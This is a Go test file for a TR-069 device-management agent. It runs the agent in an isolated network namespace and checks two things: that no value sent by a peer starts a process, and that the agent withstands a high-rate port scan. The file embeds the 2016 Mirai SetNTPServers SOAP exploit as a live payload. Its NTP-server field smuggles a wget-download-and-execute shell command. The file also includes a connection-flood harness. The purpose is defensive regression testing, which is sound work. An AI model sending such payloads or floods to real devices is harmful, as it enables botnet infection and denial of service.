package peers

// The real binary, seen from outside: which processes it starts, and what a
// scan of its port costs it.

import (
	"bytes"
	"context"
	"errors"
	"fmt"
	"io"
	"io/fs"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"golang.org/x/sys/unix"

	"gatehouse/lab/acs"
	"gatehouse/lab/rooms"
)

// shell and mirai are what went through the world in November 2016.
const (
	shell = "`cd /tmp;wget http://203.0.113.66/2;chmod 777 2;./2`"
	mirai = `<?xml version="1.0"?><SOAP-ENV:Envelope xmlns:SOAP-ENV="http://schemas.xmlsoap.org/soap/envelope/" SOAP-ENV:encodingStyle="http://schemas.xmlsoap.org/soap/encoding/"> <SOAP-ENV:Body>  <u:SetNTPServers xmlns:u="urn:dslforum-org:service:Time:1">   <NewNTPServer1>` + shell + `</NewNTPServer1>   <NewNTPServer2></NewNTPServer2>  </u:SetNTPServers> </SOAP-ENV:Body></SOAP-ENV:Envelope>`
)

var miraiRequest = fmt.Sprintf("POST /UD/act?1 HTTP/1.1\r\nHost: 127.0.0.1:7547\r\nSOAPAction: urn:dslforum-org:service:Time:1#SetNTPServers\r\n"+
	"Content-Type: text/xml\r\nContent-Length: %d\r\n\r\n%s", len(mirai), mirai)

// A cell is a network namespace with the built agent and an ACS in it.
type cell struct {
	t    *testing.T
	room rooms.Room
	dir  string
	acs  *acs.Server
	pid  int // of the agent
}

// newCell builds the agent and starts it, under the command before if there is
// one.
func newCell(t *testing.T, before ...string) *cell {
	t.Helper()
	rooms.Need(t, "go")
	c := &cell{t: t, room: rooms.New(t), dir: t.TempDir()}
	rooms.Cable(rooms.End{Room: c.room, Name: "lan0", Addr: "192.0.2.1/24"}, rooms.End{Room: c.room, Name: "lan1"})
	c.build()
	c.listen()
	c.start(before)
	return c
}

// build makes the agent.
func (c *cell) build() {
	c.t.Helper()
	build := exec.Command("go", "build", "-tags", "nethttpomithttp2", "-o", c.path("gatehouse"), "gatehouse/agent")
	build.Env = append(os.Environ(), "CGO_ENABLED=0")
	if out, err := build.CombinedOutput(); err != nil {
		c.t.Fatalf("%v: %s", err, out)
	}
}

func (c *cell) path(name string) string { return filepath.Join(c.dir, name) }

// root is the agent's. But for /proc and /sys it is empty: nothing of this machine
// is edited.
func (c *cell) root() string {
	root := c.path("root")
	if err := os.MkdirAll(root, 0o755); err != nil {
		c.t.Fatal(err)
	}
	for _, name := range []string{"proc", "sys"} {
		if err := os.Symlink("/"+name, filepath.Join(root, name)); err != nil && !errors.Is(err, fs.ErrExist) {
			c.t.Fatal(err)
		}
	}
	return root
}

// listen starts the ACS, and writes the agent's configuration.
func (c *cell) listen() {
	c.t.Helper()
	err := c.room.Within(func() error {
		l, err := net.Listen("tcp", "127.0.0.1:80")
		if err == nil {
			c.acs = acs.New(acs.Options{Dial: c.dial})
			go c.acs.Serve(l)
		}
		return err
	})
	if err != nil {
		c.t.Fatal(err)
	}
	c.t.Cleanup(func() { c.acs.Close() })
	text := config("http://127.0.0.1/acs", "cpe", "secret", "7547", "\toption serial_number 'cell'\n\toption manufacturer_oui '00005E'\n")
	if err := os.WriteFile(c.path("config"), []byte(text), 0o600); err != nil {
		c.t.Fatal(err)
	}
}

func (c *cell) start(before []string) {
	c.t.Helper()
	argv := append(before, c.path("gatehouse"), "run", "--config", c.path("config"), "--state", c.path("state"),
		"--run", c.path("run"), "--root", c.root(), "--log", "warn")
	cmd := exec.Command(argv[0], argv[1:]...)
	log := &logged{}
	cmd.Stderr, cmd.Stdout = log, log
	err := c.room.Within(func() error {
		if err := unix.Unshare(unix.CLONE_NEWUTS); err != nil { // the host name is a parameter, too
			return err
		}
		return cmd.Start()
	})
	if err != nil {
		c.t.Fatal(err)
	}
	c.pid = cmd.Process.Pid
	c.t.Cleanup(func() {
		_ = unix.Kill(c.pid, unix.SIGTERM) // who watches it ends with it
		timer := time.AfterFunc(30*time.Second, func() { _ = cmd.Process.Kill() })
		defer timer.Stop()
		if err := cmd.Wait(); err != nil {
			c.t.Errorf("the agent: %v", err)
		}
		if c.t.Failed() {
			log.mu.Lock()
			defer log.mu.Unlock()
			c.t.Log(log.b.String())
		}
	})
	for len(before) > 0 && c.pid == cmd.Process.Pid { // the agent is a child of who watches it, not the first one
		time.Sleep(10 * time.Millisecond)
		children, err := os.ReadFile(fmt.Sprintf("/proc/%d/task/%[1]d/children", cmd.Process.Pid))
		if err != nil {
			c.t.Fatal(err)
		}
		for _, child := range strings.Fields(string(children)) {
			if exe, err := os.Readlink("/proc/" + child + "/exe"); err == nil && exe == c.path("gatehouse") {
				c.pid, _ = strconv.Atoi(child)
			}
		}
	}
}

// dial dials within the namespace, from an address of the loopback network.
func (c *cell) dialFrom(from string) func(ctx context.Context, network, addr string) (net.Conn, error) {
	d := net.Dialer{LocalAddr: &net.TCPAddr{IP: net.ParseIP(from)}}
	return func(ctx context.Context, network, addr string) (conn net.Conn, err error) {
		err = c.room.Within(func() error { conn, err = d.DialContext(ctx, network, addr); return err })
		return conn, err
	}
}

func (c *cell) dial(ctx context.Context, network, addr string) (net.Conn, error) {
	return c.dialFrom("127.0.0.1")(ctx, network, addr)
}

// TestPeerNoProcess: whatever value a peer sends, no process is started by it.
// strace sees one execve: that of the agent itself.
func TestPeerNoProcess(t *testing.T) {
	rooms.Need(t, "strace")
	trace := filepath.Join(t.TempDir(), "trace")
	t.Run("agent", func(t *testing.T) {
		c := newCell(t, "strace", "-f", "--seccomp-bpf", "-e", "trace=execve,execveat,fork,vfork", "-o", trace)
		tried, stored := 0, 0
		c.acs.Queue("", func(conv *acs.Conversation) (err error) { tried, stored, err = everywhere(conv); return err })
		s := waitFor(t, c.acs, "0 BOOTSTRAP")
		conn, err := c.dial(t.Context(), "tcp", "127.0.0.1:7547")
		if err != nil {
			t.Fatal(err)
		}
		defer conn.Close()
		if _, err := io.WriteString(conn, miraiRequest); err != nil {
			t.Fatal(err)
		}
		answer := make([]byte, 64)
		n, _ := io.ReadAtLeast(conn, answer, 12)
		if line := string(answer[:n]); !strings.HasPrefix(line, "HTTP/1.1 404") && !strings.HasPrefix(line, "HTTP/1.1 405") {
			t.Errorf("answered %q", line)
		}
		t.Logf("%s in %d texts, %d of them stored; session of %d calls", shell, tried, stored, len(s.RPCs))
		if tried < 20 || stored == 0 {
			t.Errorf("%d texts tried, %d stored", tried, stored)
		}
	})
	text, err := os.ReadFile(trace)
	if err != nil {
		t.Fatal(err)
	}
	var calls []string
	for line := range strings.Lines(string(text)) {
		if !strings.Contains(line, "+++") && !strings.Contains(line, "--- SIG") && !strings.Contains(line, "resumed>") {
			calls = append(calls, line)
		}
	}
	if len(calls) != 1 || !strings.Contains(calls[0], "execve(") || !strings.Contains(calls[0], "/gatehouse\"") {
		t.Errorf("processes:\n%s", text)
	}
}

// everywhere adds a row to each table and writes the string to each text.
func everywhere(c *acs.Conversation) (tried, stored int, err error) {
	for _, again := range []bool{true, false} {
		infos, err := c.GetParameterNames("Device.", false)
		if err != nil {
			return tried, stored, err
		}
		for _, i := range infos {
			switch {
			case !i.Writable || again != strings.HasSuffix(i.Name, "."):
				continue
			case again:
				if _, _, err := c.AddObject(i.Name, ""); err != nil && acs.FaultOf(err) == nil {
					return tried, stored, err
				}
				continue
			}
			v, err := c.GetParameterValues(i.Name)
			if err != nil || len(v) != 1 || v[0].Type != "xsd:string" {
				continue
			}
			tried++
			switch _, err := c.SetParameterValues("", acs.P(i.Name, "xsd:string", shell)); {
			case err == nil:
				stored++
			case acs.FaultOf(err) == nil:
				return tried, stored, fmt.Errorf("%s: %w", i.Name, err)
			}
		}
	}
	return tried, stored, nil
}

// TestPeerScan: 1,000 requests a second at the port of connection requests, the
// load under which the Speedports fell over in 2016. The agent stays small, and
// who knows the password is answered at once. GATEHOUSE_SCAN_SECONDS (5) is how
// long it lasts.
func TestPeerScan(t *testing.T) {
	seconds := 5
	if text := os.Getenv("GATEHOUSE_SCAN_SECONDS"); text != "" {
		n, err := strconv.Atoi(text)
		if err != nil {
			t.Fatal(err)
		}
		seconds = n
	}
	c := newCell(t)
	first := waitFor(t, c.acs, "0 BOOTSTRAP")
	url, _ := first.Inform.Parameters.Get("Device.ManagementServer.ConnectionRequestURL")
	cpu, rss := c.usage()
	scan := c.scan(time.Duration(seconds) * time.Second)
	var worst time.Duration
	for n := 1; n <= seconds; n++ {
		time.Sleep(time.Second)
		r, err := c.acs.Knock(t.Context(), first.Device.Key(), acs.ConnectionRequest{URL: url, Username: "knock", Password: "who is there"})
		if err != nil || !r.OK() && r.Status != 503 {
			t.Fatalf("connection request: %+v, %v", r, err)
		}
		worst = max(worst, r.Took)
	}
	asked, answered, elapsed := scan()
	cpuNow, rssNow := c.usage()
	sessions := 0
	for _, s := range c.acs.Sessions() {
		if s.Err != nil {
			t.Errorf("session %d: %v", s.Number, s.Err)
		}
		if s.Inform.Has("6 CONNECTION REQUEST") {
			sessions++
		}
	}
	t.Logf("%d requests in %v, %d answered; agent: %.2f CPU seconds, %d kB before, %d kB at most; connection requests answered within %v, %d sessions by them",
		asked, elapsed.Round(time.Millisecond), answered, (cpuNow - cpu).Seconds(), rss, rssNow, worst, sessions)
	if asked < 900*seconds || answered < asked*9/10 {
		t.Errorf("%d asked, %d answered: this is no scan", asked, answered)
	}
	if rssNow > rss+8<<10 {
		t.Errorf("memory grew from %d to %d kB", rss, rssNow)
	}
	if cpuNow-cpu > elapsed*6/10 {
		t.Errorf("%v of CPU in %v", cpuNow-cpu, elapsed)
	}
	if worst > 500*time.Millisecond || sessions == 0 { // the machine that runs this is shared
		t.Errorf("a connection request took %v; %d sessions", worst, sessions)
	}
}

// scan sends a thousand requests a second from a hundred addresses, each over a
// connection of its own, until the time is over. What it returns waits for that.
func (c *cell) scan(d time.Duration) (wait func() (asked, answered int, elapsed time.Duration)) {
	const rate, workers = 1000, 8
	var asked, answered atomic.Int64
	var all sync.WaitGroup
	began := time.Now()
	tickets := make(chan int, rate)
	requests := []string{miraiRequest, "GET / HTTP/1.1\r\nHost: x\r\n\r\n", "GET /admin HTTP/1.0\r\n\r\n", "\x16\x03\x01\x00\x05rubbish\r\n\r\n"}
	for range workers {
		all.Go(func() {
			_ = c.room.Within(func() error {
				for n := range tickets {
					asked.Add(1)
					if shout(fmt.Sprintf("127.0.1.%d", 1+n%100), requests[n%len(requests)]) == nil {
						answered.Add(1)
					}
				}
				return nil
			})
		})
	}
	all.Go(func() {
		defer close(tickets)
		for n := 0; time.Since(began) < d; {
			for due := int(time.Since(began).Seconds() * rate); n < due; n++ {
				tickets <- n
			}
			time.Sleep(2 * time.Millisecond)
		}
	})
	return func() (int, int, time.Duration) {
		all.Wait()
		return int(asked.Load()), int(answered.Load()), time.Since(began)
	}
}

// shout sends a request from an address, and reads until the end.
func shout(from, text string) error {
	d := net.Dialer{LocalAddr: &net.TCPAddr{IP: net.ParseIP(from)}, Timeout: 5 * time.Second}
	conn, err := d.Dial("tcp", "127.0.0.1:7547")
	if err != nil {
		return err
	}
	defer conn.Close()
	if err := conn.SetDeadline(time.Now().Add(5 * time.Second)); err != nil {
		return err
	}
	if _, err := io.WriteString(conn, text); err != nil {
		return err
	}
	var b [256]byte
	n, err := conn.Read(b[:])
	if !bytes.HasPrefix(b[:n], []byte("HTTP/1.")) {
		return errors.Join(errors.New("no answer"), err)
	}
	return nil
}

// usage is what the agent has used of the processor, and the most memory that
// it ever had, in kB.
func (c *cell) usage() (cpu time.Duration, peak int) {
	c.t.Helper()
	text, err := os.ReadFile(fmt.Sprintf("/proc/%d/stat", c.pid))
	if err != nil {
		c.t.Fatal(err)
	}
	_, rest, _ := strings.Cut(string(text), ") ")
	f := strings.Fields(rest) // from the state on: utime and stime are 11 and 12
	ticks := 0
	for _, word := range f[11:13] {
		n, err := strconv.Atoi(word)
		if err != nil {
			c.t.Fatal(err)
		}
		ticks += n
	}
	status, err := os.ReadFile(fmt.Sprintf("/proc/%d/status", c.pid))
	if err != nil {
		c.t.Fatal(err)
	}
	_, rest, _ = strings.Cut(string(status), "VmHWM:")
	if _, err := fmt.Sscan(rest, &peak); err != nil {
		c.t.Fatal(err)
	}
	return time.Duration(ticks) * 10 * time.Millisecond, peak // USER_HZ is 100 everywhere
}
